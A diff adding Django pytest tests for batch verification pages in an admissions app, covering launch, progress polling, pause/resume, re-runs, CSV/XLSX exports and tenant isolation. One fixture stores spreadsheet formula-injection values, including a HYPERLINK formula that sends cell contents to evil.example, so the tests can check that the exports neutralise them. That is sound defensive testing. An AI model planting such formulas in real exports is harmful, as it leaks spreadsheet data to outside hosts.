@@ -1,0 +1,363 @@
+"""Batch verification pages: list, cohort choice and confirmation, launch, the live progress
+fragment, pause/resume, re-running failures, result downloads, and tenant isolation."""
+
+import csv
+import io
+import re
+
+import openpyxl
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from admissions.enums import AuditAction, BatchKind, BatchStatus, ClaimKind, Verdict
+from admissions.models import AuditEvent, Batch
+from tests.factories import ApplicantFactory, ClaimFactory, InstitutionFactory, UserFactory
+from tests.verifications.helpers import claim_for, person_with
+from verifications.enums import RequestState
+from verifications.models import VerificationRequest
+from verifications.sandbox.population import CvecOutcome, ScolariteOutcome
+from verifications.services import verification_dispatch, verification_run
+from verifications.services.batches import batch_pause, batch_verification_launch
+
+
+pytestmark = pytest.mark.django_db
+HTMX = {"HX-Request": "true"}
+
+
+@pytest.fixture
+def supervisor():
+    return UserFactory(supervisor=True)
+
+
+@pytest.fixture
+def sup_client(client, supervisor):
+    client.force_login(supervisor)
+    return client
+
+
+def _fold(html: str) -> str:
+    html = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', 'name="csrfmiddlewaretoken"', html)
+    return " ".join(html.split())
+
+
+def _region(html: str, element_id: str) -> str:
+    match = re.search(rf'<(\w+)[^>]*\bid="{element_id}".*?</\1>', html, re.S)
+    assert match, element_id
+    return _fold(match.group(0))
+
+
+def _batch(user, n: int, kind=ClaimKind.SCOLARITE, **claim_fields) -> Batch:
+    claims = [
+        ClaimFactory(
+            applicant=ApplicantFactory(institution=user.institution), kind=kind, **claim_fields
+        )
+        for _ in range(n)
+    ]
+    return batch_verification_launch(acting_user=user, claims=claims, label="Lot test")
+
+
+def _finish(batch, verdicts):
+    requests = VerificationRequest.objects.filter(batch=batch).order_by("id")
+    for request, verdict in zip(requests, verdicts, strict=False):
+        VerificationRequest.objects.filter(pk=request.pk).update(
+            state=RequestState.DONE, verdict=verdict, finished_at=timezone.now()
+        )
+
+
+# --- Choosing and launching -------------------------------------------------------------------
+
+
+def test_cohort_form_is_prefilled_from_the_list_filters(sup_client, supervisor):
+    imported = Batch.objects.create(
+        institution=supervisor.institution, kind=BatchKind.IMPORT, label="Import de mars"
+    )
+    page = sup_client.get(reverse("batch_new"), {"batch": imported.pk, "needs_me": "on"}).text
+    assert "Import de mars" in page
+    assert f'<option value="{imported.pk}" selected>' in page
+    assert re.search(r'name="needs_me"[^>]*checked', page)
+    listing = sup_client.get(reverse("applicant_list"), {"verdict": "unavailable"}).text
+    assert reverse("batch_new") + "?verdict=unavailable" in listing
+
+
+def test_confirmation_shows_checks_per_source_and_eta_then_launch(sup_client, supervisor, settings):
+    settings.VERIFICATION_RATE_LIMITS = {"covoiturage": {"ip": [(60, 60.0)]}}
+    for _ in range(120):
+        ClaimFactory(
+            applicant=ApplicantFactory(institution=supervisor.institution), kind="covoiturage"
+        )
+    ClaimFactory(applicant=ApplicantFactory(institution=supervisor.institution), kind="cvec")
+    query = {"kinds": ["covoiturage"], "label": "Rentrée"}
+    page = sup_client.get(reverse("batch_launch"), query).text
+    assert "120 vérifications seront lancées ; durée estimée : environ 2 minutes." in page
+    assert "Registre de preuve de covoiturage" in page
+    assert not Batch.objects.exists()  # the confirmation launches nothing
+
+    response = sup_client.post(reverse("batch_launch"), query)
+    batch = Batch.objects.get()
+    assert response.status_code == 302
+    assert response["Location"] == reverse("batch_detail", args=[batch.pk])
+    assert batch.kind == BatchKind.VERIFICATION
+    assert batch.label == "Rentrée"
+    assert batch.total == 120
+    assert set(VerificationRequest.objects.values_list("source", flat=True)) == {"covoiturage"}
+
+
+def test_an_empty_cohort_launches_nothing(sup_client):
+    page = sup_client.get(reverse("batch_launch"), {"q": "personne"}).text
+    assert "Aucune déclaration à vérifier" in page
+    assert 'id="batch-launch"' not in page
+    sup_client.post(reverse("batch_launch"), {"q": "personne"})
+    assert not Batch.objects.exists()
+
+
+def test_a_foreign_import_batch_is_not_a_valid_cohort(sup_client):
+    foreign = Batch.objects.create(institution=InstitutionFactory(), kind="import", label="x")
+    response = sup_client.get(reverse("batch_launch"), {"batch": foreign.pk})
+    assert response.status_code == 400
+    sup_client.post(reverse("batch_launch"), {"batch": foreign.pk})
+    assert not Batch.objects.filter(kind=BatchKind.VERIFICATION).exists()
+
+
+def test_clerks_see_batches_but_only_supervisors_act(client, supervisor):
+    batch = _batch(supervisor, 2)
+    clerk = UserFactory(institution=supervisor.institution)
+    client.force_login(clerk)
+    assert client.get(reverse("batch_list")).status_code == 200
+    page = client.get(reverse("batch_detail", args=[batch.pk])).text
+    assert 'id="batch-pause"' not in page
+    for url in (reverse("batch_new"), reverse("batch_launch")):
+        assert client.get(url).status_code == 403
+    for name in ("batch_pause", "batch_resume", "batch_rerun_failed"):
+        assert client.post(reverse(name, args=[batch.pk])).status_code == 403
+    assert client.get(reverse("batch_export", args=[batch.pk, "csv"])).status_code == 403
+    assert Batch.objects.get(pk=batch.pk).status == BatchStatus.RUNNING
+
+
+# --- Progress -----------------------------------------------------------------------------------
+
+
+def test_batch_page_shows_progress_counts_and_polls_while_running(sup_client, supervisor):
+    batch = _batch(supervisor, 4)
+    _finish(batch, [Verdict.CONFIRMED, Verdict.NOT_FOUND])
+    page = sup_client.get(reverse("batch_detail", args=[batch.pk])).text
+    assert '<div class="progress-slot" aria-live="polite">' in page
+    assert '<progress id="batch-progress-bar" max="4" value="2"' in page
+    assert "2 sur 4 vérifiées (50 %)" in page
+    assert "Temps restant estimé" in page
+    assert f'hx-get="{reverse("batch_progress", args=[batch.pk])}"' in page
+    assert re.search(r'data-verdict="not_found">.*?<td class="num">1</td>', page, re.S)
+    assert re.search(r'data-verdict="open">.*?<td class="num">2</td>', page, re.S)
+
+
+def test_the_fragment_is_the_same_region_as_the_full_page(sup_client, supervisor):
+    batch = _batch(supervisor, 3)
+    _finish(batch, [Verdict.CONFIRMED])
+    full = sup_client.get(reverse("batch_detail", args=[batch.pk])).text
+    fragment = sup_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX)
+    assert fragment["Cache-Control"] == "no-store"
+    assert "<html" not in fragment.text
+    assert _fold(fragment.text) == _region(full, "batch-progress")
+
+
+def test_the_fragment_stops_polling_when_the_batch_is_done(sup_client, supervisor):
+    batch = _batch(supervisor, 2)
+    _finish(batch, [Verdict.CONFIRMED, Verdict.UNAVAILABLE])
+    fragment = sup_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX).text
+    assert "hx-get" not in fragment
+    assert "hx-trigger" not in fragment
+    assert 'value="2"' in fragment
+    assert "Terminé" in fragment
+    assert "Relancer l&#x27;échec (1)" in fragment or "Relancer l'échec (1)" in fragment
+
+
+def test_fragment_query_count_does_not_depend_on_batch_size(
+    sup_client, supervisor, django_assert_num_queries
+):
+    small, large = _batch(supervisor, 10), _batch(supervisor, 100)
+    _finish(small, [Verdict.CONFIRMED] * 3)
+    _finish(large, [Verdict.CONFIRMED] * 30 + [Verdict.UNAVAILABLE] * 20)
+    sup_client.get(reverse("batch_progress", args=[small.pk]))  # warm the session
+
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    def count(batch):
+        with CaptureQueriesContext(connection) as queries:
+            response = sup_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX)
+        assert response.status_code == 200
+        return len(queries)
+
+    n = count(small)
+    with django_assert_num_queries(n):
+        sup_client.get(reverse("batch_progress", args=[large.pk]), headers=HTMX)
+
+
+def test_pause_and_resume_from_the_page(sup_client, supervisor):
+    batch = _batch(supervisor, 3)
+    response = sup_client.post(reverse("batch_pause", args=[batch.pk]))
+    assert response.status_code == 302
+    assert Batch.objects.get(pk=batch.pk).status == BatchStatus.PAUSED
+    assert verification_dispatch().sent == {}
+    page = sup_client.get(reverse("batch_detail", args=[batch.pk])).text
+    assert "En pause" in page
+    assert 'id="batch-resume"' in page
+    sup_client.post(reverse("batch_resume", args=[batch.pk]))
+    assert Batch.objects.get(pk=batch.pk).status == BatchStatus.RUNNING
+    assert verification_dispatch().sent == {"api_particulier": 3}
+
+
+def test_rerun_failed_from_the_page(sup_client, supervisor):
+    batch = _batch(supervisor, 3)
+    _finish(batch, [Verdict.CONFIRMED, Verdict.UNAVAILABLE, Verdict.NOT_FOUND])
+    response = sup_client.post(reverse("batch_rerun_failed", args=[batch.pk]))
+    assert response.status_code == 302
+    assert VerificationRequest.objects.filter(batch=batch).count() == 4
+    page = sup_client.get(response["Location"]).text
+    assert "1 vérification relancée." in page
+    assert "2 sur 3 vérifiées" in page
+
+
+def test_batches_list_dashboard_and_navigation_link_batches(sup_client, supervisor):
+    batch = _batch(supervisor, 2)
+    batch_pause(batch=batch, acting_user=supervisor)
+    Batch.objects.create(institution=supervisor.institution, kind="import", label="Import CSV 1")
+    listing = sup_client.get(reverse("batch_list")).text
+    assert "Lot test" in listing
+    assert "Import CSV 1" in listing
+    assert "0 / 2" in listing
+    dashboard = sup_client.get(reverse("home")).text
+    assert reverse("batch_detail", args=[batch.pk]) in dashboard
+    assert "(en pause)" in dashboard
+    assert f'<a href="{reverse("batch_list")}" id="nav-batches"' in dashboard
+
+
+def test_import_batch_page_links_to_its_applicants_and_to_verification(sup_client, supervisor):
+    imported = Batch.objects.create(institution=supervisor.institution, kind="import", label="i")
+    ApplicantFactory(institution=supervisor.institution, batch=imported)
+    page = sup_client.get(reverse("batch_detail", args=[imported.pk])).text
+    assert "1 candidat importé." in page
+    assert reverse("batch_new") + f"?batch={imported.pk}" in page
+    assert sup_client.get(reverse("batch_progress", args=[imported.pk])).status_code == 404
+
+
+# --- Results ------------------------------------------------------------------------------------
+
+
+def _results_batch(supervisor):
+    applicant = ApplicantFactory(
+        institution=supervisor.institution,
+        birth_name='=HYPERLINK("http://evil.example/?x="&A1;"clic")',
+        file_reference="@SUM(1+1)",
+    )
+    claim = ClaimFactory(applicant=applicant)
+    other = ClaimFactory(applicant=ApplicantFactory(institution=supervisor.institution))
+    batch = batch_verification_launch(acting_user=supervisor, claims=[claim, other])
+    VerificationRequest.objects.filter(claim=claim).update(
+        state=RequestState.DONE,
+        verdict=Verdict.CONFIRMED,
+        reason="-1+1 inscrit",
+        finished_at=timezone.now(),
+    )
+    return batch
+
+
+def test_csv_results_neutralise_formulas_and_are_audited(sup_client, supervisor):
+    batch = _results_batch(supervisor)
+    response = sup_client.get(reverse("batch_export", args=[batch.pk, "csv"]))
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    assert f"vigie-lot-{batch.pk}-resultats.csv" in response["Content-Disposition"]
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[0][0] == "Référence du dossier"
+    assert len(rows) == 3
+    evil = next(row for row in rows if row[0].startswith("'@"))
+    assert evil[0] == "'@SUM(1+1)"
+    assert evil[1].startswith("'=HYPERLINK(")
+    assert evil[7:10] == ["Terminée", "Confirmé", "'-1+1 inscrit"]
+    pending = next(row for row in rows[1:] if row is not evil)
+    assert pending[7:9] == ["En attente", ""]
+    event = AuditEvent.objects.get(action=AuditAction.EXPORTED)
+    assert event.object_id == str(batch.pk)
+    assert event.details == {"format": "csv", "rows": 2}
+    assert event.actor == supervisor
+
+
+def test_xlsx_results_neutralise_formulas_and_are_audited(sup_client, supervisor):
+    batch = _results_batch(supervisor)
+    response = sup_client.get(reverse("batch_export", args=[batch.pk, "xlsx"]))
+    assert response.status_code == 200
+    assert f"vigie-lot-{batch.pk}-resultats.xlsx" in response["Content-Disposition"]
+    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    sheet = book.active
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values[0][0] == "Référence du dossier"
+    evil = next(row for row in values if row[0] == "'@SUM(1+1)")
+    assert evil[1].startswith("'=HYPERLINK(")
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert AuditEvent.objects.get(action=AuditAction.EXPORTED).details["format"] == "xlsx"
+    assert sup_client.get(reverse("batch_export", args=[batch.pk, "pdf"])).status_code == 404
+
+
+# --- Tenant isolation ---------------------------------------------------------------------------
+
+
+def test_every_batch_route_answers_404_for_another_institutions_batch(sup_client):
+    stranger = UserFactory(supervisor=True)
+    batch = _batch(stranger, 2)
+    _finish(batch, [Verdict.UNAVAILABLE, Verdict.UNAVAILABLE])
+    imported = Batch.objects.create(institution=stranger.institution, kind="import", label="i")
+    gets = [
+        reverse("batch_detail", args=[batch.pk]),
+        reverse("batch_detail", args=[imported.pk]),
+        reverse("batch_progress", args=[batch.pk]),
+        reverse("batch_export", args=[batch.pk, "csv"]),
+        reverse("batch_export", args=[batch.pk, "xlsx"]),
+    ]
+    posts = [
+        reverse("batch_pause", args=[batch.pk]),
+        reverse("batch_resume", args=[batch.pk]),
+        reverse("batch_rerun_failed", args=[batch.pk]),
+    ]
+    for url in gets:
+        assert sup_client.get(url).status_code == 404, url
+    for url in posts:
+        assert sup_client.post(url).status_code == 404, url
+    assert VerificationRequest.objects.filter(batch=batch).count() == 2
+    assert not AuditEvent.objects.filter(action__in=[AuditAction.EXPORTED, AuditAction.EDITED])
+    assert "Lot test" not in sup_client.get(reverse("batch_list")).text
+
+
+# --- End to end through the real pipeline -------------------------------------------------------
+
+
+@pytest.mark.usefixtures("sandbox_settings")
+def test_launch_run_and_download_through_the_sandbox(sup_client, supervisor):
+    institution = supervisor.institution
+    enrolled = person_with(scolarite=ScolariteOutcome.ENROLLED)
+    unknown = person_with(cvec=CvecOutcome.UNKNOWN)
+    claim_for(enrolled, ClaimKind.SCOLARITE, institution)
+    claim_for(enrolled, ClaimKind.SCOLARITE, institution)
+    claim_for(unknown, ClaimKind.CVEC, institution)
+    response = sup_client.post(reverse("batch_launch"), {})
+    batch = Batch.objects.get(kind=BatchKind.VERIFICATION)
+    assert response["Location"] == reverse("batch_detail", args=[batch.pk])
+    # The dispatcher sends them; run each as a worker would.
+    sent = verification_dispatch().sent
+    assert sum(sent.values()) == 3
+    for request in VerificationRequest.objects.filter(batch=batch):
+        assert verification_run(request_id=request.pk, task_id="test").status == "done"
+    batch.refresh_from_db()
+    assert batch.status == BatchStatus.DONE
+    fragment = sup_client.get(reverse("batch_progress", args=[batch.pk]), headers=HTMX).text
+    assert '<progress id="batch-progress-bar" max="3" value="3"' in fragment
+    assert "3 sur 3 vérifiées (100 %)" in fragment
+    assert "hx-trigger" not in fragment
+    assert re.search(r'data-verdict="confirmed">.*?<td class="num">2</td>', fragment, re.S)
+    assert re.search(r'data-verdict="not_found">.*?<td class="num">1</td>', fragment, re.S)
+    csv_text = b"".join(
+        sup_client.get(reverse("batch_export", args=[batch.pk, "csv"])).streaming_content
+    ).decode("utf-8-sig")
+    assert csv_text.count("Confirmé") == 2
+    assert csv_text.count("Inconnu de la source") == 1
